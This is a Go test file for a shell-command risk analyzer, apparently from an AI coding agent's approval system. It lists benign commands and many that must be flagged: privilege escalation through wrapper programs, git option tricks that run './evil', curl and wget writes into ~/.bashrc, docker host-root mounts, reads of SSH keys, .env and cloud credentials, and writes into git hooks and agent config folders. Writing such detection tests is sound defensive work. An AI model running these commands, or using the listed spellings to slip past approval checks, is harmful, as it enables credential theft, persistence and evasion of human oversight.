package shell_test

import (
	"strings"
	"testing"

	"github.com/gajae-code/gjc/agent/approval/shell"
)

// Programs that run others, or write files, by options in unusual spellings.
func TestAnalyze_Spellings(t *testing.T) {
	for _, line := range []string{
		"xargs -I{} sudo rm", "xargs -I{} sudo -n id", "env -S'sudo ls'", "env -vS 'sudo ls'", "env -C /etc touch x", "env --chdir=/etc rm x", "flock /w/x -c 'sudo ls'", "script -qc 'sudo ls' /dev/null",
		"watch 'sudo ls'", "parallel 'sudo {}' ::: ls", "parallel --jobs 4 sudo ::: ls", "xargs --max-args 1 sudo ls", "bash -o pipefail -c 'sudo ls'", "bash +x -c 'sudo ls'",
		"bash -O extglob -c 'sudo ls'", "bash -c -- 'sudo ls'", "taskset -c 1 sudo ls", "chrt 1 sudo ls", "fd -xsudo", "fd --exec=sudo", "systemd-run sudo ls", "toybox rm /etc/x",
		"sed --expression='1e sudo ls' x", "sed -e'1e sudo ls' x", "sed -n '1!e sudo ls' a", "sed -ni s/a/b/ /etc/x", "sed -Ei s/a/b/ /etc/x",
		"awk 'BEGIN{c=\"sudo ls\";c|getline}'", "awk 'BEGIN{c=\"sudo ls\";print | c}'", "mapfile -C 'sudo ls' -c 1 < x", "docker run -v /:/h alpine rm /h/x", "chmod 4755 x", "chmod 06755 x",
		"git -c core.pager='cat;touch /etc/x' log", "git -c gc.recentObjectsHook='touch /etc/x' gc", "git config --replace-all alias.x '!touch pwn' get", "git config core.hooksPath /tmp/x list",
		"git --namespace x -c core.fsmonitor=./evil status", "git clone -c core.fsmonitor=./evil . dest", "git clone --config core.fsmonitor=./evil . dest", "git clone -u ./evil . dest",
		"git fetch --upload-pac=./evil .", "git ls-remote --upl=./x .", "git push --exec ./x .", "git push --receive=./x .", "git grep --open-f=./x y", "git rebase -x'sudo ls' HEAD~1",
		"git log -1 --output /home/u/.bashrc", "git log --outpu=/home/u/.bashrc", "git archive -o /home/u/x HEAD", "git format-patch -o /home/u/x HEAD", "git send-email --smtp-server=./x a",
		"sort --compress-program=./x -S1 big", "sort -o/home/u/.bashrc x", "sort -uo /home/u/.bashrc x", "sort --outp=/home/u/.bashrc x", "rg --pre ./x y", "man -P ./x ls", "man -H./x ls",
		"uniq x /home/u/.bashrc", "curl -so /home/u/.bashrc http://e", "curl -o/home/u/.bashrc http://e", "curl --trace /home/u/.bashrc http://e", "curl --libcurl /home/u/.bashrc http://e",
		"wget -qO /home/u/.bashrc http://e", "wget -o /home/u/.bashrc http://e", "wget --use-askpass=./x http://e", "shuf -o /home/u/.bashrc x", "tar -xf a.tar -C/home/u", "tar xfC a.tar /home/u",
		"tar --to-com=./x -xf a", "tar --checkpoint-act=exec=x -xf a", "tar -F ./x -cf a b", "cp -t/home/u x", "cp --target=/home/u x", "go vet -vettool=./x", "go test -exec=./x", "go test --exec ./x",
		"ssh -F ./conf h", "ssh -E /home/u/.bashrc h", "sftp -S ./evil h", "ssh -o KnownHostsCommand=./x h", "ssh -I ./x.so h",
		"docker run -v/:/h alpine", "docker run -itv /:/h alpine", "docker run --mount type=bind,source=/,target=/h alpine", "docker run --mount=type=bind,src=/etc,target=/h alpine", "docker run --privileged=true alpine",
		"tar -I./evil -xf a", "tar -cI ./evil -f x a", "tar -xC /home/u -f a", "tar --dir=/home/u -xf a", "tar --one-top-level=/home/u/q -xf a", "tar cf $F x", "tar --rmt-command=./x -xf a",
		"tar xfI a ./evil", "tar -xPf a", "curl -sKfile", "curl -K-", "curl --etag-save /home/u/.bashrc http://e", "curl --hsts=/home/u/x http://e", "curl --config x http://e",
		"sort x --ou=/home/u/.bashrc", "wget --output-doc=/home/u/.bashrc http://e", "go build -ldflags \"-linkmode=external -extld=./evil\"", "go env -w=true GOFLAGS=-toolexec=./x",
		"git rebase --exe 'sudo ls' HEAD~1", "git rebase --exec='sudo ls' HEAD~1", "git rebase -ix 'sudo ls' HEAD~1", "git grep -nO./evil x", "git archive -o/home/u/q HEAD", "git format-patch -o/home/u/x HEAD", "git bundle create /home/u/x HEAD",
		"git init --separate-git-dir=/home/u/x", "git clone --separate-git-dir=/home/u/x https://e/x.git", "git merge-file /home/u/.bashrc a b", "git interpret-trailers --in-place /home/u/.bashrc",
		"git checkout-index -a --prefix /home/u/", "git bugreport -o /home/u", "git maintenance start", "git checkout x -- .husky/pre-commit",
		"scp -S ./x a b:c", "scp -o ProxyCommand=./x a b:c", "ssh-keygen -D ./x.so",
		"D=/home/u/.bashrc; cp x $D", "D=/etc; mv x $D", "D=/home/u/.bashrc; tee $D < x", "cp x \"$(echo /home/u/.bashrc)\"", "cp x {.git,.}/hooks/pre-commit", "tee .gi?/hooks/pre-commit < x", "cp x .gi?/hooks/pre-commit",
		"ln -s / r && echo x > r/home/u/pwn", "ln -s ~ h; touch h/pwn", "ln -s .git g; echo x > g/config",
		"cat .en?", "cat .e*", "cat ~/.ssh/*", "cat < .en?", "cat ~/.ssh/id_{rsa,dsa}", "F=.env; cat $F", "cp -r ~/.ssh .", "tar czf x.tgz ~/.ssh", "tr '\\0' '\\n' < /proc/$PPID/environ", "cat /proc/self/environ",
		"cat ~/.kube/config", "cat ~/.config/gh/hosts.yml", "cat ~/.docker/config.json", "cat .env.bak", "cat .env~", "cat id_rsa.old", "cat ~/.gjc/agent/models.yml",
		"echo x > repo/HEAD", "echo x > .npmrc", "echo x > .pre-commit-config.yaml", "echo x > .claude/hooks/x", "touch .cursor/rules/x", "touch .devcontainer/devcontainer.json", "touch .config/fish/conf.d/x.fish",
	} {
		if c := shell.Analyze(line, "/w", testPaths(t)); len(c.Risks) == 0 {
			t.Errorf("%s: no risk is seen", line)
		}
	}
	for _, line := range []string{
		"cp -r src/*.go build", "chmod 755 x", "chmod -R 0644 a", "docker run --rm -v data:/data alpine ls", "git log --output-indicator-new=x", "sort -k2 -t, a.csv", "awk '{a[$1]++} END {for (k in a) print k}' x",
		"git clone -b main https://example.com/x.git", "git push -u origin main", "go test -run X ./...", "curl -sSfL https://example.com/", "xargs -n 1 -P 4 echo", "bash -euo pipefail -c 'ls'", "grep -rn x *.go",
		"ssh -p 22 host ls", "ssh -o StrictHostKeyChecking=yes host ls", "docker run -it --rm -v ./src:/src alpine", "docker run --mount type=volume,source=data,target=/d alpine", "docker run -e V=1 alpine",
		"tar -czf x.tgz src", "tar czf x.tgz -C build .", "tar xzf a.tgz -C build --strip-components=1", "tar -tvf a.tar", "curl -sSL -H 'Key: K' https://example.com/", "curl -XPOST https://example.com/",
		"go build -ldflags '-s -w -X main.v=1' ./...", "go build -ldflags='-extldflags=-static' .", "go env GOPATH", "sort -o out.txt in.txt", "git rebase -i HEAD~3", "git grep -nE 'a|b' src", "git grep -e TODO", "git archive -o x.tar HEAD",
		"git checkout main -- a.go", "git checkout -- .", "git restore a.go", "git restore -- src", "git bundle verify x", "git rebase --onto main a b",
		"ln -s a b", "git config list", "tar tf a.tar", "cat *.md", "touch head.go", "tail -n +5 a", "wget https://example.com/x",
	} {
		if c := shell.Analyze(line, "/w", testPaths(t)); len(c.Risks) > 0 {
			t.Errorf("%s: %s", line, strings.Join(c.Risks, "; "))
		}
	}
}
